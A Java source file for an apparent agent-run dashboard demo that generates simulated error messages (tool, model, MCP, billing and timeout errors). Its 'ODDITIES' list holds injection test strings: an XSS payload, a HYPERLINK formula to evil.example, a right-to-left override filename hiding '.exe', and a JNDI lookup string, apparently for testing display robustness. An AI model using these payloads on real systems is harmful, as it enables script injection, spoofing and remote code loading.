package dev.runboard.demo.data;

import java.util.Collections;
import java.util.List;

/** The ways in which the demo's runs go wrong, and what they say then. */
public final class SampleErrors {

    static final RunError CANCELLED = new RunError(Ending.CANCELLED_ERROR, "The session was cancelled.");
    static final RunError CONCURRENCY =
            new RunError("concurrency_limit_reached", "The deployment already runs as many sessions as it may.");
    static final RunError THROTTLED = new RunError("session_rate_limited_error", CONCURRENCY.message());
    /** What goes wrong with a broken version of an agent, and nowhere else. */
    private static final List<Kind> OF_BROKEN_AGENT = List.of(
            new Kind(
                    "mcp_authentication_failed_error",
                    true,
                    List.of("MCP server \"ledger\" answered 403: the scope payments:write is missing (request {n})")),
            new Kind(
                    "session_creation_rejected_error",
                    false,
                    List.of("agent.tools.{n}.input_schema: the tool post_payment has no schema")));

    private static final String TIMEOUT = "timeout_error";

    /** One type of error, whether a session comes to be before it strikes, and its messages. */
    private record Kind(String type, boolean startsFirst, List<String> messages) {}

    private static final List<Kind> KINDS = List.of(
            new Kind(
                    "tool_execution_error",
                    true,
                    List.of(
                            "Tool bash exited with code {n}: npm ERR! missing script: verify",
                            "Tool read_file failed: /workspace/src/app/page-{n}.tsx: no such file or directory",
                            trace("ToolTimeout: search answered nothing for {n} s", "tools/search.py", "agent/loop.py"),
                            trace("KeyError: 'pull_request_{n}'", "tools/github.py", "agent/dispatch.py"))),
            new Kind(
                    "model_overloaded_error",
                    true,
                    List.of(
                            "The model is overloaded. Gave up after {n} attempts.",
                            "The model is overloaded (queue position {n}). Please try again later.")),
            new Kind(
                    "model_rate_limited_error",
                    true,
                    List.of("The model's rate limit was reached. Gave up after {n} attempts.")),
            new Kind(
                    "model_request_failed_error",
                    true,
                    List.of("The model refused the request: messages.{n}.content: at least one block is required")),
            new Kind(
                    "mcp_connection_failed_error",
                    true,
                    List.of(
                            "MCP server \"tracker\" closed the connection: read ECONNRESET (request {n})",
                            "MCP server \"metrics\" did not answer the handshake within {n} s")),
            new Kind(
                    "mcp_authentication_failed_error",
                    true,
                    List.of("MCP server \"tracker\" answered 401: the token expired {n} minutes ago")),
            new Kind(
                    "credential_host_unreachable_error",
                    true,
                    List.of("The credential host did not answer within {n} s.")),
            new Kind("billing_error", true, List.of("The organization has used up its credits. Reference {n}.")),
            new Kind(
                    "session_rate_limited_error",
                    false,
                    List.of("Too many sessions were created. Try again in {n} seconds.")),
            new Kind(
                    "mcp_egress_blocked_error",
                    false,
                    List.of(
                            "The environment's network policy blocks mcp-{n}.internal.example:8443.",
                            "The environment's network policy blocks tracker-{n}.internal.example:443.")),
            new Kind(
                    "session_creation_rejected_error",
                    false,
                    List.of("initial_events.0.content: template variable \"sprint_{n}\" has no value")),
            new Kind(
                    "unknown_error",
                    true,
                    List.of("Something went wrong. Reference {n}.", "unexpected end of stream after {n} events")),
            new Kind(TIMEOUT, true, List.of("The session did not finish within the deployment's time limit.")),
            new Kind(
                    Ending.CANCELLED_ERROR,
                    true,
                    List.of(CANCELLED.message(), "The session was cancelled because a newer one took over.")),
            new Kind(
                    Ending.BUDGET_ERROR,
                    true,
                    List.of(
                            "The session reached its budget.",
                            "The session reached its budget after {n} calls of the model.")));

    /** The kinds at the list's end do not come in outages. */
    private static final int SINGLE_KINDS = 3;

    private static final List<Kind> SINGLE = byFrequency(KINDS);
    private static final List<Kind> IN_OUTAGES = byFrequency(KINDS.subList(0, KINDS.size() - SINGLE_KINDS));

    private static final List<RunError> OVERCOME = List.of(
            new RunError("model_overloaded_error", "The model is overloaded."),
            new RunError("model_rate_limited_error", "The model's rate limit was reached."),
            new RunError("mcp_connection_failed_error", "MCP server \"tracker\" closed the connection."));

    private static final List<String> ODDITIES = List.of(
            "Could not parse the page's title: <script>alert(1)</script><img src=x onerror=alert({n})>",
            "=HYPERLINK(\"https://evil.example/?row={n}\",\"click here\") is not a number",
            "Dateiname ungültig: „Übersicht № {n} — 概要.md“ 🚧 (\u202efdp.exe\u202c)",
            "{n} rows were read, then: \"quoted\", 'single', back\\slash, tab\there, & <b>bold</b> ${jndi:ldap://x}");

    private SampleErrors() {}

    static boolean startsFirst(RunSeed tick) {
        return tick.deployment().standing().cause() == null && kind(tick).startsFirst();
    }

    static boolean timesOut(RunSeed tick) {
        return kind(tick).type().equals(TIMEOUT);
    }

    public static RunError of(RunSeed tick) {
        RunError cause = tick.deployment().standing().cause();
        return cause != null ? cause : new RunError(kind(tick).type(), message(tick));
    }

    /** An error in the middle of a session, which did not end it. */
    public static RunError overcome(long hash) {
        return OVERCOME.get(Hash.below(OVERCOME.size(), hash >>> 12));
    }

    /** What is told of a run that got no session, where a run tells of nothing else. */
    static RunError refusal(RunSeed tick) {
        return tick.outcome() == Status.SKIPPED ? THROTTLED : of(tick);
    }

    /** One outage has one cause, and none that takes as long as a timeout to show. */
    private static Kind kind(RunSeed tick) {
        if (isOfBrokenAgent(tick)) {
            return OF_BROKEN_AGENT.get(Hash.below(OF_BROKEN_AGENT.size(), Hash.of(tick.hash(), 7)));
        }
        return tick.outage() > 0
                ? IN_OUTAGES.get(Hash.below(IN_OUTAGES.size(), Hash.of(7, tick.outage())))
                : SINGLE.get(Hash.below(SINGLE.size(), Hash.of(tick.hash(), 7)));
    }

    /** A kind that has more to say strikes more often. */
    private static List<Kind> byFrequency(List<Kind> kinds) {
        return kinds.stream()
                .flatMap(kind -> Collections.nCopies(kind.messages().size(), kind).stream())
                .toList();
    }

    private static boolean isOfBrokenAgent(RunSeed tick) {
        return tick.deployment().agent().isBrokenAt(tick.createdNanos());
    }

    private static String message(RunSeed tick) {
        long hash = Hash.of(tick.hash(), 4);
        List<String> messages = (hash >>> 50 & 31) == 0 && !isOfBrokenAgent(tick)
                ? ODDITIES
                : kind(tick).messages();
        return messages.get(Hash.below(messages.size(), hash)).replace("{n}", Long.toString(2 + (hash >>> 8) % 98));
    }

    private static String trace(String error, String inner, String outer) {
        StringBuilder text = new StringBuilder("Traceback (most recent call last):\n");
        for (int depth = 1; depth <= 14; depth++) {
            text.append("  File \"/opt/agent/").append(depth < 14 ? outer : inner);
            text.append("\", line ")
                    .append(depth * 37)
                    .append(", in step_")
                    .append(depth)
                    .append('\n');
            text.append("    return await self._call(context, deadline=deadline, depth=")
                    .append(depth)
                    .append(")\n");
        }
        return text.append(error).toString();
    }
}
